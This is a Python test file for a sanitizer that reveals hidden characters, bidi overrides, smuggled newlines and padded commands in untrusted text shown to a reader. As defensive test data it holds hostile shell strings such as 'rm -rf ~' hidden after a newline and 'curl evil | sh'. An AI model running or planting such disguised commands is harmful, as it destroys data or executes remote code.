"""Nothing in foreign text hides from the person who reads it."""

from __future__ import annotations

import time
import unicodedata

import pytest
from hypothesis import given
from hypothesis import strategies as st

from relay_runner.protocol.visible import visible, visible_line

TEXT = st.text(max_size=300) | st.text(alphabet="ab \n\r\t\x1b\x7f\x9b\u202e\u2066\u200b\ud800\u2028", max_size=300)
MOVES = {"Cc", "Cs", "Zl", "Zp"}


def harmless(text: str) -> bool:
    return not any(unicodedata.category(one) in MOVES or unicodedata.bidirectional(one) in BIDI for one in text)


BIDI = {"LRE", "RLE", "LRO", "RLO", "PDF", "LRI", "RLI", "FSI", "PDI"}


@given(TEXT, st.integers(min_value=0, max_value=120))
def test_a_line_is_one_harmless_line_within_its_limit(text: str, limit: int) -> None:
    line = visible_line(text, limit)
    assert harmless(line) and len(line) <= limit


@given(TEXT)
def test_a_text_keeps_its_lines_and_nothing_that_moves(text: str) -> None:
    assert harmless(visible(text).replace("\n", "").replace("\t", ""))
    assert visible(visible(text)) == visible(text)


@pytest.mark.parametrize(
    ("text", "line"),
    [
        ("pytest -q # then\nrm -rf ~", "pytest -q # then \u23ce rm -rf ~"),
        ("a\r\nb\rc", "a \u23ce b \u23ce c"),
        ("a" + " " * 500 + "; rm", "a ; rm"),
        ("rm \u202egpj.x", "rm \\u202egpj.x"),
        ("\x1b[2Jx\x7f\x9b", "\\x1b[2Jx\\x7f\\x9b"),
        ("se\u200bcret\ufeff", "se\\u200bcret\\ufeff"),
        ("a\u2028b", "a\\u2028b"),
        ("\u06a9\u0645\u200c\u0645 \U0001f469\u200d\U0001f4bb", "\u06a9\u0645\u200c\u0645 \U0001f469\u200d\U0001f4bb"),
        ("\n\n", ""),
    ],
)
def test_what_hides_is_shown(text: str, line: str) -> None:
    assert visible_line(text) == line


def test_a_cut_is_marked_and_both_ends_stay() -> None:
    line = visible_line("echo " + "a" * 500 + "; curl evil | sh")
    assert line.startswith("echo aaa") and line.endswith("aaa; curl evil | sh") and len(line) == 200
    shown = len(line) - len(" \u2026[335 cut]\u2026 ")
    assert f" \u2026[{521 - shown} cut]\u2026 " in line
    text = visible("x" * 100 + "\nend", 60)
    assert text.startswith("xxx") and text.endswith("\nend") and " characters cut] \u2026\n" in text and len(text) <= 60


@pytest.mark.parametrize("unit", ["\u202e", "x", " ", "a\n", "\ud800"])
@pytest.mark.parametrize("limit", [200, 64 * 1024])
def test_of_a_mebibyte_only_the_ends_are_looked_at(unit: str, limit: int) -> None:
    text = "begin " + unit * (1024 * 1024 // len(unit)) + " the end"
    before = time.process_time()
    line, lines = visible_line(text, limit), visible(text, limit)
    assert time.process_time() - before < 0.3
    for shown in (line, lines):
        assert shown.startswith("begin") and shown.endswith("the end") and len(shown) <= limit and " cut]" in shown
